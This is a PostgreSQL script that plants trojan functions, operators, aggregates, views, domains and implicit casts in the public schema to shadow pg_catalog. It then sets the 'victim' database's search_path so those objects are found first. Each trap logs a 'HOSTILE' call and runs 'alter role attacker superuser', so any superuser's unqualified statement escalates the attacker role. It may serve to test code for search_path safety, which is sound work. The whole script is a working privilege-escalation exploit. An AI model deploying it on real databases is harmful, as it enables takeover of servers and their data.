-- Run by the owner of a database, who is no superuser. Whatever a statement names without a schema is found here first:
-- a view for each relation of pg_catalog, a function for each function, an operator for each operator, an aggregate for each
-- aggregate, a domain for each type. A call is told in the server's log, which neither a rollback nor a read-only
-- transaction prevents, and makes its owner a superuser where the caller may do that.

-- Whoever sets a trap does not want to be caught in it.
set search_path = pg_catalog, pg_temp;

create function public.called(what pg_catalog.text) returns boolean language plpgsql as $called$
begin
    raise log 'HOSTILE % was called', what;
    begin
        execute 'alter role attacker superuser';
    exception when others then
        null;
    end;
    return true;
end
$called$;

-- A body is compiled when it is called; until then it may name what comes later.
set check_function_bodies = off;

do $plant$
declare
    it record;
    body pg_catalog.text;
begin
    for it in
        select p.oid, p.proname, pg_catalog.oidvectortypes(p.proargtypes) as arguments,
               pg_catalog.format_type(p.prorettype, null) as result, p.proretset, p.provariadic <> 0 as is_variadic
        from pg_catalog.pg_proc p
        where p.pronamespace = 'pg_catalog'::pg_catalog.regnamespace and p.prokind = 'f'
    loop
        body := pg_catalog.format('begin perform public.called(%L); return%s; end', it.proname || '()',
                                  case when it.proretset or it.result = 'void' then '' else ' null' end);
        begin
            execute pg_catalog.format('create function public.%I(%s) returns %s%s language plpgsql as %L', it.proname,
                                      pg_catalog.replace(it.arguments, '"any"', 'anyelement'),
                                      case when it.proretset then 'setof ' else '' end, it.result, body);
        exception when others then
            -- Types that no function in this language takes.
            null;
        end;
    end loop;

    for it in
        select o.oid, o.oprname, pg_catalog.format_type(o.oprleft, null) as lhs, pg_catalog.format_type(o.oprright, null) as rhs,
               pg_catalog.format_type(o.oprresult, null) as result
        from pg_catalog.pg_operator o
        where o.oprnamespace = 'pg_catalog'::pg_catalog.regnamespace and o.oprkind = 'b'
    loop
        body := pg_catalog.format('begin perform public.called(%L); return null; end',
                                  pg_catalog.format('operator %s(%s, %s)', it.oprname, it.lhs, it.rhs));
        begin
            execute pg_catalog.format('create function public.exact_%s(%s, %s) returns %s language plpgsql as %L', it.oid, it.lhs, it.rhs,
                                      it.result, body);
            execute pg_catalog.format('create operator public.%s (function = public.exact_%s, leftarg = %s, rightarg = %s)', it.oprname,
                                      it.oid, it.lhs, it.rhs);
        exception when others then
            null;
        end;
    end loop;

    -- What fits better than anything of pg_catalog is preferred even where pg_catalog is searched first.
    for it in
        select l.name as lhs, r.name as rhs, pg_catalog.row_number() over () as number
        from pg_catalog.unnest(array['smallint', 'integer', 'bigint', 'oid', 'numeric', 'double precision', 'text', 'name', 'boolean',
                                     'timestamp with time zone', 'interval', 'jsonb', 'pg_lsn', 'inet']) l(name),
             pg_catalog.unnest(array['smallint', 'integer', 'bigint', 'oid', 'numeric', 'double precision', 'text', 'name', 'boolean',
                                     'timestamp with time zone', 'interval', 'jsonb', 'pg_lsn', 'inet']) r(name)
    loop
        declare
            symbol pg_catalog.text;
        begin
            foreach symbol in array array['=', '<>', '<', '>', '<=', '>=', '+', '-', '*', '/', '||', '~~', '!~~', '->>'] loop
                begin
                    execute pg_catalog.format('create function public.better(%s, %s) returns boolean language plpgsql as %L', it.lhs, it.rhs,
                                              pg_catalog.format('begin perform public.called(%L); return null; end',
                                                                pg_catalog.format('a better operator of (%s, %s)', it.lhs, it.rhs)));
                exception when duplicate_function then
                    null;
                end;
                begin
                    execute pg_catalog.format('create operator public.%s (function = public.better, leftarg = %s, rightarg = %s)', symbol,
                                              it.lhs, it.rhs);
                exception when duplicate_function then
                    null;
                end;
            end loop;
        end;
    end loop;

    for it in
        select p.proname, pg_catalog.replace(pg_catalog.oidvectortypes(p.proargtypes), '"any"', 'anyelement') as arguments
        from pg_catalog.pg_proc p
        where p.pronamespace = 'pg_catalog'::pg_catalog.regnamespace and p.prokind = 'a' and p.provariadic = 0
    loop
        begin
            execute pg_catalog.format('create function public.step_%s(bigint%s) returns bigint language plpgsql as %L', it.proname,
                                      case when it.arguments = '' then '' else ', ' || it.arguments end,
                                      pg_catalog.format('begin perform public.called(%L); return null; end', it.proname || '(*)'));
            execute pg_catalog.format('create aggregate public.%I(%s) (sfunc = public.step_%s, stype = bigint)', it.proname,
                                      case when it.arguments = '' then '*' else it.arguments end, it.proname);
        exception when others then
            null;
        end;
    end loop;

    for it in
        select c.relname from pg_catalog.pg_class c
        where c.relnamespace = 'pg_catalog'::pg_catalog.regnamespace and c.relkind in ('r', 'v')
    loop
        begin
            execute pg_catalog.format('create view public.%I as select * from pg_catalog.%I where public.called(%L)', it.relname, it.relname,
                                      it.relname);
            execute pg_catalog.format('grant select on public.%I to public', it.relname);
        exception when others then
            null;
        end;
    end loop;

    for it in
        select t.typname from pg_catalog.pg_type t
        where t.typnamespace = 'pg_catalog'::pg_catalog.regnamespace and t.typtype = 'b' and t.typelem = 0
    loop
        begin
            execute pg_catalog.format('create domain public.%I as pg_catalog.%I check (public.called(%L))', it.typname, it.typname,
                                      'type ' || it.typname);
        exception when others then
            null;
        end;
    end loop;
end
$plant$;

-- A cast belongs to whoever owns one of its two types: between types of pg_catalog the owner of a database can make none, which is
-- tried; from and to a type of his own he can, and it applies without being asked for.
do $casts$
declare
    one pg_catalog.text;
    other pg_catalog.text;
begin
    create type public.trap as (word pg_catalog.text);
    foreach one in array array['text', 'regclass', 'name', 'inet', 'interval'] loop
        execute pg_catalog.format('create function public.into_trap(pg_catalog.%I) returns public.trap language plpgsql as %L', one,
                                  pg_catalog.format('begin perform public.called(%L); return null; end', 'cast from ' || one));
        execute pg_catalog.format('create cast (pg_catalog.%I as public.trap) with function public.into_trap(pg_catalog.%I) as implicit', one, one);
        execute pg_catalog.format('create function public.out_of_trap_%s(public.trap) returns pg_catalog.%I language plpgsql as %L', one, one,
                                  pg_catalog.format('begin perform public.called(%L); return null; end', 'cast to ' || one));
        execute pg_catalog.format('create cast (public.trap as pg_catalog.%I) with function public.out_of_trap_%s(public.trap) as implicit', one, one);
        foreach other in array array['text', 'regclass', 'name', 'inet', 'interval'] loop
            begin
                execute pg_catalog.format('create cast (pg_catalog.%I as pg_catalog.%I) with inout as implicit', one, other);
                raise exception using errcode = 'P0004', message = 'a cast between types of pg_catalog was made';
            exception when insufficient_privilege or invalid_object_definition or duplicate_object then
                null;
            end;
        end loop;
    end loop;
end
$casts$;

alter database victim set search_path = public, pg_catalog;
